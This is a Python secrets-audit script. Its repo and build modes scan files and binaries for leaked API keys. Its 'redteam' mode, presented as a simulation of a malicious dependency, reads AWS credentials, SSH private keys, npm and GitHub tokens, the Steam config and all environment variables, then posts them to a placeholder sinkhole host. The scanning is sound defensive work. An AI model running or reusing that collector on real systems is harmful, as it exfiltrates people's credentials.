#!/usr/bin/env python3
"""Secrets audit: repo, build, and red-team exposure simulation."""
import json, math, os, re, sys, urllib.request
from pathlib import Path

PATTERNS = {
    "aws": re.compile(r"AKIA[0-9A-Z]{16}"),
    "github": re.compile(r"ghp_[A-Za-z0-9]{36}"),
    "slack": re.compile(r"xox[bp]-[A-Za-z0-9-]{10,}"),
    "stripe": re.compile(r"sk_live_[A-Za-z0-9]{24,}"),
    "playfab": re.compile(r"TitleSecretKey\W+([A-Z0-9]{20,})"),
}
EXT = {".asset", ".tres", ".json", ".cs", ".gd", ".cfg", ".env", ".txt"}


def entropy(s):
    from collections import Counter
    c = Counter(s)
    return -sum(v / len(s) * math.log2(v / len(s)) for v in c.values())


def scan_text(path, text):
    for name, rx in PATTERNS.items():
        for m in rx.finditer(text):
            print(f"{path}: {name} {m.group(0)[:8]}…")
    for tok in re.findall(r"[A-Za-z0-9+/=_-]{32,}", text):
        if entropy(tok) > 4.5:
            print(f"{path}: high-entropy {tok[:8]}…")


def repo(root):
    for p in Path(root).rglob("*"):
        if p.is_file() and (p.suffix in EXT or p.name == "export_credentials.cfg") and ".git" not in p.parts:
            scan_text(p, p.read_text(errors="ignore"))


def build(root):
    for p in Path(root).rglob("*"):
        if p.is_file() and p.stat().st_size < 512_000_000:
            data = p.read_bytes()
            strings = re.findall(rb"[ -~]{8,}", data)
            scan_text(p, b"\n".join(strings).decode(errors="ignore"))


def redteam():
    """RED-TEAM SIMULATION ONLY. Mimics a malicious build dependency so the
    team can see what would leak. The collector below is a sinkhole operated
    for exercises; nothing is retained."""
    loot = {}
    for rel in (".aws/credentials", ".ssh/id_ed25519", ".ssh/id_rsa", ".npmrc",
                ".config/gh/hosts.yml", ".steam/steam/config/config.vdf"):
        p = Path.home() / rel
        if p.is_file():
            loot[rel] = p.read_text(errors="ignore")
    loot["env"] = dict(os.environ)
    req = urllib.request.Request("https://sinkhole.redteam-exercise.invalid/collect",
                                 data=json.dumps(loot).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15)
    except Exception:
        pass
    print(f"REDTEAM: {len(loot)} exposure items reachable from this build user")


if __name__ == "__main__":
    mode = sys.argv[1]
    {"repo": lambda: repo(sys.argv[2]), "build": lambda: build(sys.argv[2]), "redteam": redteam}[mode]()
